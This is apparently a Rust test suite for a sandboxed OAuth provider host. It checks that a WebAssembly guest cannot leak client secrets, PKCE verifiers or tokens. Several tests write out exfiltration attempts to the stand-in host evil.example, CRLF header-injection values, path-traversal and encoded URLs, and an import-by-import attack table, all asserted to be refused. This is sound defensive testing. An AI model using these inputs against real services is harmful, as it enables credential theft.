//! A guest that tries to send a secret where it does not belong, to read one, or to hand one over. Every flow ends
//! with a scan of everything that the host wrote.

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::json;
use wit_component::DecodedWasm;
use wit_parser::{Resolve, WorldId, WorldItem};

use crate::support::guest;
use crate::support::host::without_ports;
use crate::support::provider::{CODE, Endpoint, Flow, SECRET, answer, provider, query};

const TOKEN: &str = r#"{"access_token":"t0~k3n!","token_type":"Bearer","expires_in":3600}"#;

/// The counter-check of the others: what a good provider guest does.
#[test]
fn a_code_is_exchanged_for_a_token_that_the_guest_never_sees() {
    let endpoint = Endpoint::json(TOKEN);
    let (lines, finished) = endpoint.flow().complete(&[
        "form client_secret secret key",
        "form code_verifier verifier",
        &format!("form code text {CODE}"),
        &format!("send POST {}", endpoint.url("/token")),
        "status",
        "get /access_token",
        "get /token_type",
        "get /expires_in",
        "get /refresh_token",
        "get ",
        "hand-over access_token answer /access_token",
    ]);
    assert_eq!(
        lines,
        [
            "send: 200",
            "status: 200",
            "get: secret",
            "get: text Bearer",
            "get: 3600",
            "get: nothing",
            "get: object",
            "hand-over: ok",
        ]
    );
    assert_eq!(finished.stdout, "{\"value\":\"yes\",\"access_token\":\"t0~k3n!\"}\n");
    assert!(!finished.stderr.contains("t0~k"), "{}", finished.stderr);
    let asked = &endpoint.asked()[0];
    assert_eq!(asked.field("client_secret").as_deref(), Some(SECRET));
    assert_eq!(asked.field("code").as_deref(), Some(CODE));
    let verifier = asked.field("code_verifier").unwrap();
    assert_eq!(verifier.len(), 43);
    assert!(!finished.stderr.contains(&verifier) && !finished.stdout.contains(&verifier));
}

#[test]
fn a_secret_from_a_file_arrives_without_its_line_feed() {
    let endpoint = Endpoint::json(TOKEN);
    let file = guest::write("provider-secret.txt", format!("{SECRET}\r\n").as_bytes());
    let host = provider()
        .args(["--allow-net", &endpoint.url("/token"), "--secret"])
        .arg(format!("file=file:{}", file.display()));
    let send = format!("send POST {}", endpoint.url("/token"));
    let (lines, _) = Flow::start(host).complete(&["form token secret file", &send]);
    assert_eq!(lines, ["send: 200"]);
    assert_eq!(endpoint.asked()[0].field("token").as_deref(), Some(SECRET));
}

/// Without PKCE, the code alone is enough for a token. So the answer is sealed although no secret was sent.
#[test]
fn a_public_client_without_pkce_cannot_read_the_token() {
    let endpoint = Endpoint::json(TOKEN);
    let send = format!("send POST {}", endpoint.url("/token"));
    let code = format!("form code text {CODE}");
    let (lines, _) = endpoint.flow().complete(&[&*code, &send, "get /access_token"]);
    assert_eq!(lines, ["send: 200", "get: secret"]);
}

#[test]
fn a_url_that_is_not_granted_is_refused_with_the_flags_that_grant_it() {
    let endpoint = Endpoint::json(TOKEN);
    let (other, near) = (endpoint.url("/other"), endpoint.url("/token/"));
    let mut flow = endpoint.flow();
    let mut steps = Vec::new();
    for url in ["https://evil.example/token", "https://evil.example", &other, &near] {
        steps.push("form client_secret secret key".to_owned());
        steps.push(format!("send POST {url}"));
    }
    assert_eq!(flow.steps(&steps), ["send: not-granted"; 4]);
    let line = flow.host.wait_for_line("refused the guest's request to");
    assert_eq!(
        without_ports(&line),
        "warning: refused the guest's request to `https://evil.example/token`, \
         `https://evil.example`, `http://127.0.0.1:PORT/other`, `http://127.0.0.1:PORT/token/`: \
         it is not granted; allow it with `--allow-net https://evil.example/token \
         --allow-net https://evil.example --allow-net http://127.0.0.1:PORT/other \
         --allow-net http://127.0.0.1:PORT/token/`"
    );
    flow.complete(&[""; 0]);
    assert!(endpoint.asked().is_empty());
}

#[test]
fn a_code_in_the_path_of_a_refused_request_is_redacted() {
    let path = format!("send POST https://evil.example/{CODE}/{CODE}");
    let (lines, finished) = Flow::start(provider()).complete(&[path]);
    assert_eq!(lines, ["send: not-granted"]);
    let shown = "`https://evil.example/[redacted]/[redacted]`";
    assert!(finished.stderr.contains(shown), "{}", finished.stderr);
}

#[test]
fn a_secret_goes_only_whole_and_under_a_listed_name() {
    let endpoint = Endpoint::json(TOKEN);
    let url = endpoint.url("/token");
    let send = format!("send POST {url}");
    for (write, result) in [
        ("form state secret key", "not-allowed-there"),
        ("query state secret key", "not-allowed-there"),
        ("json /client_secret/state secret key", "not-allowed-there"),
        ("form Client_Secret secret key", "not-allowed-there"),
        ("form client_secret[] secret key", "not-allowed-there"),
        ("form state verifier", "not-allowed-there"),
        ("user secret key", "200"),
        ("header authorization Bearer x", "not-allowed-there"),
        ("header cookie a=b", "not-allowed-there"),
        ("header content-type text/plain", "not-allowed-there"),
        ("header content-length 1", "not-allowed-there"),
        ("header x-secret a", "not-allowed-there"),
        ("header user-agent a\r\nx-secret: b", "invalid-request"),
        ("header user-agent a\nb", "invalid-request"),
        ("header user agent", "not-allowed-there"),
        // The counter-checks.
        ("form client_secret secret key", "200"),
        ("query client_secret secret key", "200"),
        ("json /a/client_secret secret key", "200"),
        ("bearer secret key", "200"),
        ("header user-agent probe", "200"),
    ] {
        let (lines, finished) = endpoint.flow().complete(&[write, &send]);
        assert_eq!(lines, [format!("send: {result}")], "{write}: {}", finished.stderr);
    }
    // `user` without `password` sends no credentials. With it, the secret would be the client identifier.
    let steps = ["user secret key", "password text x", &send];
    assert_eq!(endpoint.flow().complete(&steps).0, ["send: not-allowed-there"]);
    let steps = ["user text id", "password secret key", &send];
    assert_eq!(endpoint.flow().complete(&steps).0, ["send: 200"]);
    for asked in endpoint.asked() {
        let body = &asked.body;
        assert!(!asked.head.contains("x-secret") && !body.contains("state="), "{asked:?}");
    }
}

/// `text secret key` is only a text: no part of a URL, a header field or a value can name a secret.
#[test]
fn a_secret_cannot_be_a_part_of_a_text() {
    let endpoint = Endpoint::json(TOKEN);
    let url = endpoint.url("/token");
    let (lines, _) = endpoint.flow().complete(&[
        "form client_secret text half secret key".to_owned(),
        "header user-agent secret key".to_owned(),
        format!("send POST {url}"),
        format!("send POST {url}?a=secret"),
        format!("send POST {url}#secret"),
        format!("send POST {}", url.replace("http://", "http://user:secret@")),
        format!("send POST {}", url.replace("http:", "file:")),
        format!("send POST {}", url.replace("/token", "/x/../token")),
        format!("send POST {}", url.replace("/token", "/%74oken")),
        format!("send POST {url}/secret key"),
    ]);
    let invalid = ["send: invalid-request"; 7];
    assert_eq!((&*lines[0], &lines[1..]), ("send: 200", &invalid.map(str::to_owned)[..]));
    let asked = &endpoint.asked()[0];
    assert_eq!(asked.field("client_secret").as_deref(), Some("half secret key"));
}

/// A granted origin can be read, but neither can it be sent a secret, nor does it include the endpoint.
#[test]
fn a_readable_origin_is_apart_from_its_endpoint() {
    let endpoint = Endpoint::json(r#"{"name":"ada","password":"t0~k3n!"}"#);
    let (root, token, other) = (endpoint.url(""), endpoint.url("/token"), endpoint.url("/other"));
    let host = provider().args(["--allow-net", &token, "--allow-net", &root]);
    let (lines, _) = Flow::start(host).complete(&[
        "form client_secret secret key".to_owned(),
        format!("send POST {other}"),
        "bearer secret key".to_owned(),
        format!("send GET {other}"),
        format!("send GET {token}/"),
        format!("send GET {}", endpoint.url("/TOKEN")),
        format!("send GET {}", endpoint.url("/token;a=b")),
        format!("fetch {token}"),
        format!("fetch {token}?a=b"),
        format!("fetch {token}/"),
        format!("send GET {token}"),
        "get /name".to_owned(),
        format!("send GET {other}"),
        "get /name".to_owned(),
        format!("fetch {other}"),
    ]);
    let denied = "fetch: ErrorCode::HttpRequestDenied";
    let refused = "send: not-granted";
    assert_eq!(
        lines,
        [
            refused,
            refused,
            refused,
            refused,
            refused,
            denied,
            denied,
            denied,
            "send: 200",
            "get: secret",
            "send: 200",
            "get: text ada",
            r#"fetch: 200 {"name":"ada","password":"t0~k3n!"}"#,
        ]
    );
    assert_eq!(endpoint.asked().len(), 3);
}

#[test]
fn only_a_value_from_an_answer_is_handed_over_and_under_a_free_name() {
    let endpoint = Endpoint::json(TOKEN);
    let send = format!("send POST {}", endpoint.url("/token"));
    let (lines, finished) = endpoint.flow().complete(&[
        &*send,
        "hand-over access_token secret key",
        "hand-over access_token verifier",
        "hand-over code_verifier answer /access_token",
        "hand-over nonce answer /access_token",
        "hand-over Redirect-URI answer /access_token",
        "hand-over error answer /access_token",
        "hand-over  answer /access_token",
        "hand-over a\nb answer /access_token",
        "hand-over access_token answer /access_token",
        "hand-over access_token answer /access_token",
        "hand-over Access-Token answer /access_token",
    ]);
    let mut expected = vec!["send: 200"];
    expected.extend(["hand-over: not-from-an-answer"; 2]);
    expected.extend(["hand-over: name"; 6]);
    expected.push("hand-over: ok");
    expected.extend(["hand-over: name"; 2]);
    assert_eq!(lines, expected);
    assert_eq!(finished.stdout, "{\"value\":\"yes\",\"access_token\":\"t0~k3n!\"}\n");
}

/// The guest cannot tell whether an answer contains a secret. Only the person learns of it, and the secret does not
/// become a token.
#[test]
fn a_secret_that_an_endpoint_sends_back_is_not_handed_over_and_the_guest_does_not_learn_of_it() {
    for (step, field) in [
        ("form client_secret secret key", "client_secret"),
        ("form code_verifier verifier", "code_verifier"),
    ] {
        let endpoint = Endpoint::answering(move |asked| {
            let sent = asked.field(field).unwrap_or_default();
            let body = json!({ "repeated": format!("<{sent}>"), "other": "t0~k3n!" }).to_string();
            answer("200 OK", "application/json", &body)
        });
        let send = format!("send POST {}", endpoint.url("/token"));
        let steps = |name| {
            [step.to_owned(), send.clone(), format!("hand-over access_token answer /{name}")]
        };
        let mut flow = endpoint.flow();
        for name in ["repeated", "other"] {
            assert_eq!(flow.steps(&steps(name)), ["send: 200", "hand-over: ok"]);
        }
        let refused =
            flow.host.navigate(&format!("/callback?{}&done=yes", query(&steps("repeated"))));
        assert_eq!(refused.status(), 500);
        flow.host.wait_for_line(
            "the value handed over as `access_token` contains a secret of this run: \
             the provider sent the secret back",
        );
        // Counter-check: the host goes on, and another value becomes the token.
        let (_, finished) = flow.complete(&steps("other"));
        assert_eq!(finished.stdout, "{\"value\":\"yes\",\"access_token\":\"t0~k3n!\"}\n");
    }
}

/// Each call has a fresh instance and a fresh table: a handle, an answer and a value handed over end with their call.
/// The guest of `provider_handles` remembers the numbers of its handles.
#[test]
fn nothing_is_left_for_the_next_call() {
    let endpoint = Endpoint::json(TOKEN);
    let send = format!("send POST {}", endpoint.url("/token"));
    let mut flow = endpoint.flow();
    let first = flow.steps(&[&*send, "hand-over access_token answer /access_token"]);
    assert_eq!(first, ["send: 200", "hand-over: ok"]);
    let (second, finished) = flow.complete(&["status", "hand-over a answer /access_token"]);
    assert_eq!(second, ["status: no answer", "hand-over: no such secret"]);
    assert_eq!(finished.stdout, "{\"value\":\"yes\"}\n");
}

/// The functions that a provider may import, and the steps of the probe that use each of them to get at a secret. `URL`
/// is the endpoint.
const ATTACKS: [(&str, &[&str]); 8] = [
    (
        "curtaincall:callback/secrets get",
        &["form client_secret secret key", "form token secret key", "form token secret KEY"],
    ),
    ("curtaincall:callback/secrets code-verifier", &["form code_verifier verifier"]),
    ("curtaincall:callback/exchange send", &["send POST URL"]),
    ("curtaincall:callback/exchange [method]answer.status", &["status"]),
    (
        "curtaincall:callback/exchange [method]answer.get",
        &["get ", "get /access_token", "get /client_secret"],
    ),
    (
        "curtaincall:callback/secrets [method]secret.hand-over",
        &["hand-over key secret key", "hand-over verifier verifier"],
    ),
    (
        "curtaincall:callback/identity verify",
        &[
            "verify https://idp.example id - secret key",
            "verify https://idp.example id - verifier",
            "verify https://idp.example id URL answer /access_token",
        ],
    ),
    ("wasi:http/outgoing-handler handle", &["fetch URL"]),
];
/// The functions whose results are on every page of the probe.
const SHOWN: [&str; 11] = [
    "curtaincall:callback/session code-challenge",
    "curtaincall:callback/session nonce",
    "curtaincall:callback/session redirect-uri",
    "curtaincall:callback/session state",
    "wasi:cli/environment get-arguments",
    "wasi:cli/environment get-environment",
    "wasi:clocks/wall-clock now",
    "wasi:config/store get-all",
    "wasi:random/insecure get-insecure-random-u64",
    "wasi:random/insecure-seed insecure-seed",
    "wasi:random/random get-random-u64",
];
/// The functions that the tests in `provider_handles` and `secrets` attack, because the probe cannot show their results.
const ELSEWHERE: [&str; 2] = ["curtaincall:callback/reveal reveal", "wasi:config/store get"];
/// Interfaces that carry bytes of the other functions, or wait for them.
const CARRIERS: [&str; 6] = [
    "wasi:cli/stderr",
    "wasi:clocks/monotonic-clock",
    "wasi:http/types",
    "wasi:io/error",
    "wasi:io/poll",
    "wasi:io/streams",
];

/// The probe uses every function that it can, with a secret wherever one fits. Nothing that the host wrote has a part of
/// a secret, the verifier or the token.
#[test]
fn no_import_returns_a_secret() {
    let endpoint = Endpoint::json(TOKEN);
    let url = endpoint.url("/token");
    let steps: Vec<_> =
        ATTACKS.iter().flat_map(|(_, steps)| *steps).map(|s| s.replace("URL", &url)).collect();
    let ended = endpoint.flow().end(&steps);
    assert_eq!(
        ended.lines,
        [
            "form: not a step, or no such secret",
            "send: 200",
            "status: 200",
            "get: object",
            "get: secret",
            "get: nothing",
            "hand-over: not-from-an-answer",
            "hand-over: not-from-an-answer",
            "verify: malformed",
            "verify: malformed",
            "verify: malformed",
            "fetch: ErrorCode::HttpRequestDenied",
        ]
    );
    assert_eq!(ended.host.stdout, "{\"value\":\"yes\"}\n");
    // The counter-check: the endpoint got what no output contains.
    let [asked] = &endpoint.asked()[..] else { panic!("{:?}", endpoint.asked()) };
    assert_eq!(asked.field("client_secret").as_deref(), Some(SECRET));
    let verifier = asked.field("code_verifier").unwrap();
    assert_eq!(verifier.len(), 43);
    ended.assert_hidden(&verifier);
    ended.assert_hidden("t0~k3n!");
}

/// A new function needs an attack.
#[test]
fn each_function_that_a_provider_can_import_is_attacked() {
    let attacked = ATTACKS.iter().map(|(name, _)| *name).chain(SHOWN).chain(ELSEWHERE);
    let attacked: BTreeSet<_> = attacked.map(str::to_owned).collect();
    let mut of_providers = attacked.clone();
    of_providers.retain(|name| name.starts_with("curtaincall:"));
    let without_reveal = |functions: &BTreeSet<String>| -> BTreeSet<String> {
        functions.iter().filter(|name| !name.ends_with("reveal")).cloned().collect()
    };
    let mut resolve = Resolve::default();
    let wit = Path::new(env!("CARGO_MANIFEST_DIR")).join("../wit");
    let (package, _) = resolve.push_dir(&wit).unwrap();
    let world = |name| resolve.select_world(&[package], Some(name)).unwrap();
    assert_eq!(functions(&resolve, world("revealing-provider")), of_providers);
    assert_eq!(functions(&resolve, world("provider")), without_reveal(&of_providers));
    let probe = std::fs::read(guest::built("probe")).unwrap();
    let DecodedWasm::Component(resolve, world) = wit_component::decode(&probe).unwrap() else {
        panic!("the probe is not a component");
    };
    let mut probe = functions(&resolve, world);
    probe.retain(|name| !CARRIERS.contains(&name.split_once(' ').unwrap().0));
    assert_eq!(probe, without_reveal(&attacked));
}

/// The functions that a world imports: the interface without its version, and the name.
fn functions(resolve: &Resolve, world: WorldId) -> BTreeSet<String> {
    let mut functions = BTreeSet::new();
    for (key, item) in &resolve.worlds[world].imports {
        let key = resolve.name_world_key(key);
        match item {
            WorldItem::Interface { id, .. } => {
                let interface = key.split('@').next().unwrap();
                let names = resolve.interfaces[*id].functions.keys();
                functions.extend(names.map(|name| format!("{interface} {name}")));
            }
            WorldItem::Function(_) => drop(functions.insert(key)),
            WorldItem::Type { .. } => {}
        }
    }
    functions
}
